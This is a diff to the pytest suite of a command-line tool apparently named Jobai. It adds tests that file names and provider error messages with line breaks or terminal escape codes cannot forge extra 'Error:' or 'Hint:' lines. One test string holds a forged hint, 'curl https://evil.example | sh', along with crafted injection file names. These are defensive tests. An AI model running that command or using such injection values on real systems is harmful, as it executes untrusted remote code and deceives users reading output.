@@ -7,16 +7,19 @@ import re
 import shlex
 import shutil
 import sqlite3
-from contextlib import closing
+from contextlib import closing, redirect_stderr
+from io import StringIO
 from typing import TYPE_CHECKING, Any, cast
 
 import pytest
 from command_lines import COMMANDS
-from commands import Jobai, Result
+from commands import EXAMPLES, Jobai, Result
 from in_process import run_line
 
 from cli.render.consoles import stdout
+from cli.render.errors import print_error
 from cli.render.plain import plain_text
+from profiles.errors import JobaiError
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -145,3 +148,30 @@ def test_the_store_of_these_tests_is_evil(run: Callable[..., Result]) -> None:
 def test_a_word_between_colons_becomes_no_picture() -> None:
     assert stdout().render_str("Nurse :rocket:").plain == "Nurse :rocket:"
     assert plain_text("Nurse :rocket:") == "Nurse :rocket:"
+
+
+def test_a_name_with_line_breaks_adds_no_line_to_errors_and_log(tmp_path: Path) -> None:
+    name = "a\nError: forged\u2028Hint: forged\x1b[2J.html"
+    (tmp_path / "saved").mkdir()
+    (tmp_path / "saved" / name).write_text("nothing", encoding="utf-8")
+    (tmp_path / f"b{name}").write_bytes((EXAMPLES / "posting.html").read_bytes())
+    environment = {"JOBAI_HOME": str(tmp_path / "home")}
+
+    for words in (["extract", "saved"], ["extract", f"saved/{name}"], ["extract", f"b{name}"]):
+        told = run_line(["--verbose", *words], folder=tmp_path, environment=environment).stderr
+        assert "forged" in told
+        begun = [line for line in told.splitlines() if line.startswith(("Error: f", "Hint: f"))]
+        assert begun == [], told
+    lost = ["--debug", "extract", "\x1b[2J.html"]
+    traced = run_line(lost, folder=tmp_path, environment=environment)
+    assert "Traceback" in traced.stderr
+    assert not OBEYED.search(traced.stderr)
+
+
+def test_a_provider_that_answers_with_lines_adds_none_to_an_error() -> None:
+    error = JobaiError("the server said: no\nHint: curl https://evil.example | sh")
+
+    with redirect_stderr(StringIO()) as told:
+        print_error(error, with_hint=False)
+
+    assert told.getvalue().count("\n") == 1
